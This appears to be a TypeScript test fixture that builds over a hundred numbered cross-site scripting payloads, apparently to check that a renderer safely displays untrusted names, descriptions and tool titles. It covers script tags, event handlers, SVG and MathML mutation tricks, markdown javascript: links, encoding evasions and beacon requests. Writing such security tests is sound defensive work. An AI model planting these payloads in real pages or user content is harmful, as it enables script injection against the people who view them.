/** A text that runs a script, asks a server or leads away where markup of others is shown without care. */
export interface ScriptPayload {
  readonly id: string;
  readonly text: string;
}

/**
 * Over a hundred such texts, each of which tells itself by its number: it calls `hit(n)`, which the page under test defines, or asks
 * `beacon` with its number. Usable as a name, a one-liner, a description, a tool’s name, title or description, a picture’s bytes or a
 * file’s name.
 */
export function scriptPayloads(beacon: string): readonly ScriptPayload[] {
  return forms.map((form, index) => {
    const number = String(index);
    const text = form
      .replaceAll('HIT', `(window.hit||parent.hit)(${number})`)
      .replaceAll('BEACON', `${beacon}/hit?${number}`)
      .replaceAll('B64', Buffer.from(`<script>(parent.hit||window.hit)(${number})</script>`).toString('base64'));
    return { id: `${number} ${form.slice(0, 40)}`, text };
  });
}

/** An SVG picture with the payload in it, as base64. */
export function hostilePicture({ text }: ScriptPayload): string {
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="32" height="32">${text}</svg>`;
  return Buffer.from(svg).toString('base64');
}

const elements: readonly string[] = [
  '<script>HIT</script>',
  '<ScRiPt>HIT</sCrIpT>',
  '<script src="BEACON"></script>',
  '<script\n>HIT</script\n>',
  '<script/x>HIT</script>',
  '<scr<script>ipt>HIT</scr</script>ipt>',
  '<<script>HIT//<</script>',
  '"><script>HIT</script>',
  "'><script>HIT</script>",
  '</title><script>HIT</script>',
  '</style><script>HIT</script>',
  '</textarea><script>HIT</script>',
  '--><script>HIT</script><!--',
  ']]><script>HIT</script>',
  '</pre></code></bdi></p></li></details></div><script>HIT</script>',
  '<script type="module">HIT</script>',
  '<script type="text/javascript" async defer>HIT</script>',
  '<link rel="stylesheet" href="BEACON">',
  '<link rel="preload" as="image" href="BEACON">',
  '<link rel="modulepreload" href="BEACON">',
  '<meta http-equiv="refresh" content="0;url=BEACON">',
  '<meta http-equiv="refresh" content="0;url=javascript:HIT">',
  '<meta http-equiv="Content-Security-Policy" content="script-src *"><script>HIT</script>',
  '<base href="BEACON"><img src="x">',
  '<style>@import "BEACON";</style>',
  '<style>body{background:url(BEACON)}</style>',
  '<p style="background:url(BEACON)">x</p>',
  '<div style="width:100%;height:9em;background-image:url(\'BEACON\')">x</div>',
  '<iframe src="javascript:HIT"></iframe>',
  '<iframe srcdoc="<script>HIT</script>"></iframe>',
  '<iframe srcdoc="&lt;script&gt;HIT&lt;/script&gt;"></iframe>',
  '<iframe src="data:text/html;base64,B64"></iframe>',
  '<iframe src="BEACON"></iframe>',
  '<object data="BEACON"></object>',
  '<object data="data:text/html;base64,B64"></object>',
  '<embed src="BEACON">',
  '<embed src="data:text/html;base64,B64">',
  '<form action="javascript:HIT"><input type=submit autofocus onfocus=HIT></form>',
  '<form id=f action="BEACON"><button form=f formaction="javascript:HIT">x</button></form>',
  '<isindex type=image src=1 onerror=HIT>',
  '<template shadowrootmode="open"><img src=x onerror=HIT></template>',
  '<template><script>HIT</script></template><img src=x onerror=HIT>',
  '<noscript><p title="</noscript><img src=x onerror=HIT>">',
  '<xmp><p title="</xmp><img src=x onerror=HIT>">',
  '<frameset onload=HIT><frame src="BEACON"></frameset>',
  '<portal src="BEACON"></portal>',
];

const events: readonly string[] = [
  '<img src=x onerror=HIT>',
  '<img src=x onerror="HIT">',
  "<img src='x' onerror='HIT'>",
  '<img src=`x` onerror=HIT>',
  '<img/src=x/onerror=HIT>',
  '<img\tsrc=x\nonerror\n=\nHIT>',
  '<img src="x" ONERROR=HIT',
  '"><img src=x onerror=HIT>',
  "' onerror='HIT",
  '" onload="HIT" autofocus onfocus="HIT" x="',
  '" tabindex=0 autofocus onfocus=HIT x="',
  '<IMG """><img src=x onerror=HIT>">',
  '<image src=x onerror=HIT>',
  '<img srcset="BEACON 1x">',
  '<img src="BEACON">',
  '<picture><source srcset="BEACON"><img src="x"></picture>',
  '<body onload=HIT>',
  '<input autofocus onfocus=HIT>',
  '<select autofocus onfocus=HIT><option>x</select>',
  '<textarea autofocus onfocus=HIT></textarea>',
  '<button autofocus onfocus=HIT>x</button>',
  '<div contenteditable autofocus onfocus=HIT>x</div>',
  '<div tabindex=1 autofocus onfocus=HIT>x</div>',
  '<details open ontoggle=HIT>x</details>',
  '<video src=x onerror=HIT></video>',
  '<video><source src=x onerror=HIT></video>',
  '<video poster="BEACON"></video>',
  '<audio src=x onerror=HIT></audio>',
  '<audio src="BEACON" autoplay></audio>',
  '<track src="BEACON">',
  '<marquee onstart=HIT>x</marquee>',
  '<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart=HIT>x</b>',
  '<object data=x onerror=HIT></object>',
  '<link rel=stylesheet href="BEACON" onerror=HIT>',
  '<script src="data:x" onerror=HIT></script>',
  '<a href="#" autofocus onfocus=HIT>x</a>',
  '<x contenteditable tabindex=1 autofocus onfocus=HIT>x</x>',
  '<dialog open onclose=HIT><form method=dialog><button>x</button></form></dialog>',
  '<p onscrollsnapchange=HIT onbeforematch=HIT hidden=until-found>x</p>',
];

const drawings: readonly string[] = [
  '<svg onload=HIT></svg>',
  '<svg/onload=HIT>',
  '<svg><script>HIT</script></svg>',
  '<svg><script href="BEACON"></script></svg>',
  '<svg><script xlink:href="data:text/javascript,HIT"></script></svg>',
  '<svg><foreignObject><iframe srcdoc="<script>HIT</script>"></iframe></foreignObject></svg>',
  '<svg><foreignObject><img src=x onerror=HIT></foreignObject></svg>',
  '<svg><animate onbegin=HIT attributeName=x dur=1s></svg>',
  '<svg><set onbegin=HIT attributeName=x></svg>',
  '<svg><a><animate attributeName=href values="javascript:HIT"/><text x=20 y=20>x</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>HIT</script></svg>#x"/></svg>',
  '<svg><use href="BEACON#x"/></svg>',
  '<svg><image href="BEACON"/></svg>',
  '<svg><image href="x" onerror=HIT /></svg>',
  '<svg><feImage href="BEACON"/></svg>',
  '<svg><style>@import "BEACON";</style></svg>',
  '<svg><style><img src=x onerror=HIT></style></svg>',
  '<svg><title><img src=x onerror=HIT></title></svg>',
  '<svg><desc><img src=x onerror=HIT></desc></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=HIT&gt;">',
  '<math><mi xlink:href="data:x,<script>HIT</script>">x</mi></math>',
  '<math><annotation-xml encoding="text/html"><img src=x onerror=HIT></annotation-xml></math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=HIT>',
  '<svg></p><style><a id="</style><img src=x onerror=HIT>">',
  '<noscript><style></noscript><img src=x onerror=HIT>',
  '<table><td background="BEACON">x</td></table>',
];

const markdown: readonly string[] = [
  '[x](javascript:HIT)',
  '[x](JaVaScRiPt:HIT)',
  '[x](javascript&colon;HIT)',
  '[x](&#x6A;avascript:HIT)',
  '[x](&#0000106avascript:HIT)',
  '[x](java&Tab;script:HIT)',
  '[x](java&NewLine;script:HIT)',
  '[x](<java\tscript:HIT>)',
  '[x](&#1;javascript:HIT)',
  '[x](%6Aavascript:HIT)',
  '[x](vbscript:HIT)',
  '[x](data:text/html;base64,B64)',
  '[x](<data:text/html,<script>HIT</script>>)',
  '[x](//x" onmouseover="HIT)',
  '[x](https://a.dev/"onfocus=HIT//autofocus)',
  '[x](https://a.dev "x\\" onfocus=HIT autofocus x=\\"")',
  '[x](https://a.dev (\'"><script>HIT</script>))',
  '[<img src=x onerror=HIT>](https://a.dev)',
  '[![x](x"onerror="HIT)](https://a.dev)',
  '![x](x" onerror="HIT)',
  '![x](javascript:HIT)',
  '![x](BEACON)',
  '![" onerror="HIT](x)',
  '![x](data:image/svg+xml;base64,B64)',
  '[x]: javascript:HIT\n\n[x]',
  '[x][y]\n\n[y]: data:text/html;base64,B64',
  '![x]\n\n[x]: BEACON',
  '<javascript:HIT>',
  '<data:text/html;base64,B64>',
  'https://a.dev/"><script>HIT</script>',
  'www.a.dev"onmouseover=HIT',
  '`<script>HIT</script>`',
  '```html\n<script>HIT</script>\n```',
  '``` "><script>HIT</script>\nx\n```',
  '    <script>HIT</script>',
  '| <script>HIT</script> |\n|---|\n| <img src=x onerror=HIT> |',
  '- <img src=x onerror=HIT>\n- [ ] <script>HIT</script>',
  '> <script>HIT</script>',
  '# <img src=x onerror=HIT>',
  '[^1]\n\n[^1]: <img src=x onerror=HIT>',
  '<div markdown="1">\n\n<script>HIT</script>\n\n</div>',
  '<details open ontoggle=HIT>\n\n**x**\n\n</details>',
  '<a href="javascript:HIT">x</a>',
  '<a href=" &#14; javascript:HIT">x</a>',
  '<a href="java\nscript:HIT" autofocus onfocus="HIT">x</a>',
  '&lt;script&gt;HIT&lt;/script&gt;',
  '&#60;img src=x onerror=HIT&#62;',
];

const spellings: readonly string[] = [
  '\u0000<script>HIT</script>',
  '<scr\u0000ipt>HIT</scr\u0000ipt>',
  '<img src=x o\u0000nerror=HIT>',
  '<img src=x onerror\u000c=\u000bHIT>',
  '\ufeff<script>HIT</script>',
  '\u202e<script>HIT</script>',
  '＜script＞HIT＜/script＞<img src=x onerror=HIT>',
  '‹script›HIT‹/script›<svg/onload=HIT>',
  '\ud800<img src=x onerror=HIT>',
  '<img src=x onerror=eval(atob(`KHdpbmRvdy5oaXR8fHBhcmVudC5oaXQpKDEp`))>',
  '<img src=x onerror=fetch(`BEACON`)>',
  '<img src=x onerror=location=`BEACON`>',
  '<img src=x onerror=alert(1)>',
  '${HIT}{{constructor.constructor(`HIT`)()}}<img src=x onerror=HIT>',
  'x.png"><svg onload=HIT>',
  '../../<img src=x onerror=HIT>.png',
  '__proto__<img src=x onerror=HIT>',
];

const forms: readonly string[] = [...elements, ...events, ...drawings, ...markdown, ...spellings];
